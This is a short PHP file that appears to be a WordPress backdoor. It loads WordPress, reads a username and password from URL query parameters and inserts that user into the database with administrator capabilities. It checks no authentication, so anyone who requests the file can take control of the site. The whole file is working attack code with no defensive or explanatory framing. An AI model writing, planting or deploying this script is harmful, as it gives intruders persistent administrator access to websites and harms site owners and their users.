<?php
require '../wp-load.php';
global $wpdb;
$login = $_GET['u'];
$wpdb->insert($wpdb->users, array('user_login' => $login, 'user_pass' => wp_hash_password($_GET['p'])));
update_user_meta($wpdb->insert_id, $wpdb->prefix . 'capabilities', array('administrator' => true));
